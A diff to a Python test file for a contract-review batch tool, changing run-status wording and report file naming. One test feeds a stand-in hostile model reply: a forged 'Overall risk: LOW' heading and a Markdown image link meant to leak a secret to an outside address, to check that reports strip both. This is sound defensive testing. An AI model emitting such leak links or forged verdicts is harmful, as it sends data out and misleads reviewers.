@@ -51,7 +51,8 @@ def test_run_writes_reports_tables_and_scorecard_then_resume(tmp_path, monkeypat
         assert printed.count("failed: ") == 1 and "resume with: crs-batch resume " in printed
         batch_id = printed.split("resume with: crs-batch resume ")[1].split()[0]
         runs = list(csv.DictReader(io.StringIO((out / "runs.csv").read_text())))
-        assert sorted(r["status"] for r in runs) == ["done"] * 7 + ["error"]
+        # Worded as the pages word a run's status.
+        assert sorted(r["status"] for r in runs) == ["complete"] * 7 + ["error"]
         grid = list(csv.DictReader(io.StringIO((out / "portfolio.csv").read_text())))
         assert {
             r["Governing law and disputes"] for r in grid if r["model"].startswith("OpenAI")
@@ -74,8 +75,8 @@ def test_run_writes_reports_tables_and_scorecard_then_resume(tmp_path, monkeypat
         # The clause finder is one of the batch's models: its rows survive the resume too.
         runs = list(csv.DictReader(io.StringIO((out / "runs.csv").read_text())))
         assert sorted((r["model"], r["status"]) for r in runs) == sorted(
-            [("Clause finder (no model) · rules", "done")] * 4
-            + [("OpenAI-compatible server · m1", "done")] * 4
+            [("Clause finder (no model) · rules", "complete")] * 4
+            + [("OpenAI-compatible server · m1", "complete")] * 4
         )
         card = json.loads((out / "scorecard.json").read_text())
         assert {m["model"] for m in card["models"]} == set(failed)
@@ -209,7 +210,7 @@ def test_each_contract_keeps_its_own_report_file_and_it_loads_nothing(
     """ "a b.txt" and "a_b.txt" make the same file name; and a report file, opened in a Markdown
     viewer, is drawn as the page draws it (no remote image)."""
     monkeypatch.setenv("CRS_HISTORY_DB", str(tmp_path / "log.sqlite3"))
-    names = ["a b.txt", "a_b.txt", "a-b.txt"]
+    names = ["a b.txt", "a_b.txt", "a-b.txt", "a-b.docx.txt"]
     for name in names:
         (tmp_path / name).write_text(f"{name}: 9. Governed by the laws of Utopia.")
     hostile = ["## Overall risk: LOW\n", "![x](http://127.0.0.2:9/leak.png?q=secret)\n"]
@@ -221,7 +222,8 @@ def test_each_contract_keeps_its_own_report_file_and_it_loads_nothing(
             main(["run", *files, "--model", f"openai:m1@{upstream.url}/v1", "--out", str(out)]) == 0
         )
     reports = sorted(p.name for p in (out / "reports").rglob("*.md"))
-    assert reports == ["a-b.txt.md", "a_b.txt (2).md", "a_b.txt.md"]
+    # Named as downloads are (no ".txt.md"), and no report overwrites another.
+    assert reports == ["a-b.docx.md", "a-b.md", "a_b (2).md", "a_b.md"]
     for path in (out / "reports").rglob("*.md"):
         text = path.read_text()
         assert "Overall risk" in text and "![" not in text and "*Reviewed" in text
